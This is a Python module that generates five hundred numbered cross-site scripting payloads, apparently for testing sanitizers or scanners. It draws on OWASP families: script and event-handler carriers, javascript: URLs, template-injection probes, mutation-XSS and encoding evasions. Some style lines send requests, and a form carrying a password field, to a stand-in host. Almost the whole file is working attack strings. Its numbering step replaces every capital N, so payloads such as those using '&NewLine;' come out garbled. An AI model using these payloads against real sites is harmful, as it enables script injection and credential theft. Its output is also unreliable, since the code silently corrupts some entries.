"""Five hundred ways to run a script where words were to stand, each with a number of its own.

The families are those of the OWASP cheat sheets on cross-site scripting; ``N`` is the number that
the payload's ``alert`` would say, so that whoever hears it knows which one ran.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

COUNT = 500
CALLS = (
    "alert(N)",
    "alert`N`",
    "(alert)(N)",
    "top['al'+'ert'](N)",
    "self[`alert`](N)",
    "setTimeout('alert(N)')",
    "eval('alert(N)')",
    "Function('alert(N)')()",
    "[N].find(alert)",
    "\\u0061lert(N)",
    "window.onerror=alert;throw N",
    "location='javascript:alert(N)'",
    "import('data:text/javascript,alert(N)')",
    "parent.alert(N)",
    "confirm(N)",
    "prompt(N)",
)
CARRIERS = (
    "<script>CALL</script>",
    "<script src=data:,CALL></script>",
    "<script type=module>CALL</script>",
    "<img src=x onerror=CALL>",
    "<img/src/onerror=CALL>",
    "<image src=x onerror=CALL>",
    "<svg onload=CALL>",
    "<svg/onload=CALL//",
    "<svg><script>CALL</script></svg>",
    "<svg><script href=data:,CALL />",
    "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<svg><set onbegin=CALL attributeName=x>",
    "<svg><a xlink:href=javascript:CALL><text y=20>a</text></a>",
    "<svg><foreignObject><body onload=CALL></foreignObject>",
    "<body onload=CALL>",
    "<body onpageshow=CALL>",
    "<iframe srcdoc='<script>parent.CALL</script>'>",
    "<iframe src=javascript:CALL>",
    "<iframe onload=CALL>",
    "<frameset onload=CALL>",
    "<object data=javascript:CALL>",
    "<object data='data:text/html,<script>CALL</script>'>",
    "<embed src=javascript:CALL>",
    "<embed src=x onload=CALL>",
    "<video><source onerror=CALL>",
    "<video src=x onerror=CALL>",
    "<audio src=x onerror=CALL>",
    "<details open ontoggle=CALL>a",
    "<input autofocus onfocus=CALL>",
    "<input type=image src=x onerror=CALL>",
    "<select autofocus onfocus=CALL>",
    "<textarea autofocus onfocus=CALL>",
    "<keygen autofocus onfocus=CALL>",
    "<button autofocus onfocus=CALL>a",
    "<a href=# autofocus onfocus=CALL>a",
    "<p contenteditable autofocus onfocus=CALL>a",
    "<x tabindex=1 autofocus onfocus=CALL>a",
    "<marquee onstart=CALL>a",
    "<marquee loop=1 onfinish=CALL>a",
    "<style onload=CALL></style>",
    "<link rel=stylesheet href=x onerror=CALL>",
    "<link rel=import href='data:text/html,<script>CALL</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
    "<meta http-equiv=refresh content='0;data:text/html,<script>CALL</script>'>",
    "<base href=javascript:CALL//>",
    "<form action=javascript:CALL><button autofocus>a",
    "<form><button formaction=javascript:CALL>a",
    "<isindex action=javascript:CALL type=image>",
    "<a href=javascript:CALL>a</a>",
    "<a href=data:text/html,<script>CALL</script>>a</a>",
    "<map><area href=javascript:CALL shape=default></map>",
    "<math href=javascript:CALL>a</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:CALL>a</maction>",
    "<table background=javascript:CALL>",
    "<bgsound src=javascript:CALL>",
    "<div style=background:url(javascript:CALL)>",
    "<div style=width:expression(CALL)>",
    "<xml><x xmlns='http://www.w3.org/1999/xhtml'><script>CALL</script></x></xml>",
    "<template shadowrootmode=open><img src=x onerror=CALL></template>",
    "<portal src=javascript:CALL>",
    "<track src=x onerror=CALL>",
    "<dialog open onclose=CALL><form method=dialog><button autofocus>a",
)
BREAKOUTS = (
    '">',
    "'>",
    "`>",
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</select>",
    "</option>",
    "</svg>",
    "</xmp>",
    "</template>",
    "</blockquote>",
    "</button>",
    "?>",
    "%>",
)
INTO = ("<svg onload=CALL>", "<img src=x onerror=CALL>", "<script>CALL</script>")
EVENT_WORDS = """
abort afterprint animationend animationiteration animationstart auxclick beforecopy
beforeinput beforematch beforeprint beforetoggle beforeunload blur cancel canplay change
click close contextmenu copy cuechange cut dblclick drag dragend dragenter drop
durationchange emptied ended error focus focusin focusout formdata fullscreenchange
gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata
loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup
mousewheel pagehide pageshow paste pause play playing pointerdown pointerenter pointermove
pointerover pointerrawupdate pointerup popstate progress ratechange reset resize scroll
scrollend search securitypolicyviolation seeked select selectionchange selectstart show
slotchange storage submit suspend timeupdate toggle touchend touchmove touchstart
transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting
webkitanimationend wheel
"""
EVENTS = tuple(EVENT_WORDS.split())
ATTRIBUTES = (
    '" autofocus onfocus=CALL x="',
    "' autofocus onfocus=CALL x='",
    '" onpointerover="CALL',
    "' onpointerover='CALL",
    '"onmouseenter="CALL"style="position:fixed;inset:0',
    '" style="animation:spin 1s" onanimationstart="CALL',
    '" formaction="javascript:CALL',
    '" src=x onerror="CALL',
    '" srcdoc="<script>parent.CALL</script>',
    '" accesskey=x onclick="CALL',
    '" popover onbeforetoggle="CALL',
    '" xlink:href="javascript:CALL',
    '" href="javascript:CALL',
    "x onfocus=CALL autofocus",
    '/onerror="CALL"/src="x',
)
ADDRESSES = (
    "javascript:CALL",
    "JaVaScRiPt:CALL",
    "javascript&colon;CALL",
    "&#106;avascript:CALL",
    "&#x6A;avascript:CALL",
    "java&Tab;script:CALL",
    "java&NewLine;script:CALL",
    "javascript://%0aCALL",
    "javascript://comment%0d%0aCALL",
    "javascript:/*--></title></style></textarea>*/CALL",
    "javascript:void(CALL)",
    "javascript:%61lert(N)",
    "vbscript:CALL",
    "livescript:CALL",
    "data:text/html,<script>CALL</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>",
    "data:text/html;charset=utf-16,CALL",
    "blob:CALL",
    "feed:javascript:CALL",
    "jar:javascript:CALL!/",
    "view-source:javascript:CALL",
    "//x.invalid/CALL",
    "https://x.invalid/?<script>CALL</script>",
    'https://x.invalid/"onmouseover=CALL//',
)
IN_SCRIPTS = (
    "';CALL//",
    '";CALL//',
    "`;CALL//",
    "'-CALL-'",
    '"-CALL-"',
    "${CALL}",
    "\\';CALL//",
    '\\";CALL//',
    "</script><script>CALL</script>",
    "*/CALL/*",
    "-->\u2028CALL//",
    "});CALL;({",
    "]);CALL;([",
    '{"__proto__":{"innerHTML":"<img src=x onerror=CALL>"}}',
    "<!--<script>CALL//-->",
    "\\u2028CALL",
    "?callback=CALL",
    "\\x3cscript\\x3eCALL\\x3c/script\\x3e",
    "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
    "\\74script\\76CALL\\74/script\\76",
)
TEMPLATES = (
    "{{constructor.constructor('CALL')()}}",
    "{{$on.constructor('CALL')()}}",
    "{{[].pop.constructor('CALL')()}}",
    "[[constructor.constructor('CALL')()]]",
    "{{_c.constructor('CALL')()}}",
    "<div ng-app>{{$eval.constructor('CALL')()}}</div>",
    "<div v-html=\"'<img src=x onerror=CALL>'\"></div>",
    "<x v-on:click=CALL autofocus>",
    "<div x-data x-init=CALL></div>",
    "<img hx-on::load=CALL>",
    "{{'<script>CALL</script>'|safe}}",
    "{{ config }}{#N#}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{#N#}",
    "{% autoescape false %}<script>CALL</script>{% endautoescape %}",
    "{% raw %}<script>CALL</script>{% endraw %}",
    "{{ cycler.__init__.__globals__ }}{#N#}",
    "<%= CALL %>",
    "<? CALL ?>",
    "#{CALL}",
    "{0.__class__}{N}",
    "%(N)s<script>CALL</script>",
    "[a](javascript:CALL)",
    '![a](x"onerror="CALL)',
    "<javascript:CALL>",
    "[url=javascript:CALL]a[/url]",
)
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=CALL>">',
    "<svg><style><img src=x onerror=CALL></style>",
    "<svg></p><style><a id='</style><img src=x onerror=CALL>'>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=x onerror=CALL&gt;'>"
    ),
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>",
    (
        "<math><mi><table><mi><mglyph><svg><mtext><textarea>"
        "<path id='</textarea><img onerror=CALL src=x>'>"
    ),
    "<listing>&lt;img src=x onerror=CALL&gt;</listing>",
    "<xmp><img src='</xmp><img src=x onerror=CALL>'>",
    "<title><img src='</title><img src=x onerror=CALL>'>",
    "<a href='x`y' title='`><script>CALL</script>'>",
    "<iframe><textarea></iframe><img src=x onerror=CALL>",
    "<select><template><img src=x onerror=CALL></template></select>",
    "<svg><desc><![CDATA[</desc><script>CALL</script>]]></svg>",
    "<!--><img src=x onerror=CALL>-->",
    "<!---!><img src=x onerror=CALL>",
    "<!DOCTYPE x[<!ENTITY x '&#60;script>CALL&#60;/script>'>]><x>&x;</x>",
    "<?xml-stylesheet href='javascript:CALL'?>",
    "<comment><img src='</comment><img src=x onerror=CALL>'>",
    "<img src='x' alt='``onerror=CALL'>",
    "<a id=token><a id=token name=value href='x:CALL'>",
    "<form id=document><input name=cookie value='CALL'>",
)
WRITTEN = (
    "<ScRiPt>CALL</sCrIpT>",
    "<script\t>CALL</script >",
    "<script/x>CALL</script/x>",
    "<<script>CALL//<</script>",
    "<scr<script>ipt>CALL</scr</script>ipt>",
    "<script>CALL<!--",
    "<script x='>'>CALL</script>",
    "&lt;script&gt;CALL&lt;/script&gt;",
    "&#60;script&#62;CALL&#60;/script&#62;",
    "&#x3c;script&#x3e;CALL&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;CALL&amp;lt;/script&amp;gt;",
    "＜script＞CALL＜/script＞",
    "‹script›CALL‹/script›",
    "<ſcript>CALL</ſcript>",
    "+ADw-script+AD4-CALL+ADw-/script+AD4-",
    "¼script¾CALL¼/script¾",
    "<img src=x:x onerror=&#97;lert(N)>",
    '<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(N)">',
    "<img src=x onerror=alert&lpar;N&rpar;>",
    '<a href="&#1;javascript:CALL">a</a>',
    "<img\u00a0src=x onerror=CALL>",
    "<svg\u3000onload=CALL>",
    "\u202e<script>CALL</script>",
    "\ufeff<script>CALL</script>",
    "\u202e>tpircs/<)N(trela>tpircs<",
    "<script>/*\u200b*/CALL</script>",
)
STYLES = (
    "</style><style>@import 'data:text/css,*{x:N}';</style>",
    "</style><script>CALL</script>",
    ";background:url(//x.invalid/N)",
    "red;}*{background:url(//x.invalid/N)}",
    "<style>*{background:url(//x.invalid/N)}</style>",
    "<style>@import'//x.invalid/N';</style>",
    "<link rel=stylesheet href=//x.invalid/N>",
    "<link rel=prefetch href=//x.invalid/N>",
    "<img src=//x.invalid/N>",
    "<img srcset='//x.invalid/N 1x'>",
    "<video poster=//x.invalid/N>",
    "<svg><image href=//x.invalid/N />",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(N)>#x'/>",
    "<input type=image src=//x.invalid/N>",
    "<body background=//x.invalid/N>",
    "<table><td background=//x.invalid/N>",
    "<iframe src=//x.invalid/N>",
    "<form action=//x.invalid/N><input name=password autofocus>",
    "<base target=N href=//x.invalid/>",
    "<a ping=//x.invalid/N href=#>a</a>",
    "<img src='//x.invalid/N?",
    "<button form=blur formaction=//x.invalid/N>a",
)
MIXED = (
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=CALL )//</stYle/</titLe/</teXtarEa/"
        "</scRipt/--!>\\x3csVg/<sVg/oNloAd=CALL//>\\x3e"
    ),
    '">><marquee><img src=x onerror=CALL></marquee>"></plaintext\\></|\\><p onmouseover=CALL>',
    "'\"--></style></script></title></textarea><svg onload=CALL>",
    "';CALL//';CALL//\";CALL//--></script>\">'><script>CALL</script>",
    "\"'`><img src=x onerror=CALL>${CALL}{{CALL}}",
    '-->\'"/></sCript><svG x=">" onload=(co\\u006efirm)(N)>',
)


def payloads() -> tuple[str, ...]:
    """Give the five hundred, always in the same order."""
    found = dict.fromkeys(text.strip() for text in _families())
    numbered = [_numbered(text, number) for number, text in enumerate(found, 1000)]
    return tuple(numbered[:COUNT])


def number_of(position: int) -> int:
    """The number that the payload at this position says when it runs."""
    return 1000 + position


def _families() -> Iterator[str]:
    plain = CALLS[0]
    single = (CARRIERS, ATTRIBUTES, ADDRESSES, IN_SCRIPTS, TEMPLATES, MUTATIONS, WRITTEN, MIXED)
    for family in (*single, STYLES):
        yield from (text.replace("CALL", plain) for text in family)
    for carrier, call in product(INTO, CALLS[1:]):
        yield carrier.replace("CALL", call)
    for out, carrier in product(BREAKOUTS, INTO):
        yield out + carrier.replace("CALL", plain)
    yield from (f'<x on{event}="alert(N)" tabindex=1>a</x>' for event in EVENTS)
    yield from (f'">{carrier.replace("CALL", plain)}' for carrier in CARRIERS)
    for carrier in CARRIERS[:20]:
        yield quote(carrier.replace("CALL", plain))
    for carrier in INTO:
        yield base64.b64encode(carrier.encode()).decode() + ":N"


def _numbered(text: str, number: int) -> str:
    """Let each say its own number; those without a place for it get it behind."""
    said = text.replace("N", str(number)) if "(N" in text or "N" in text else text
    return said if str(number) in said else f"{said}<!--{number}-->"
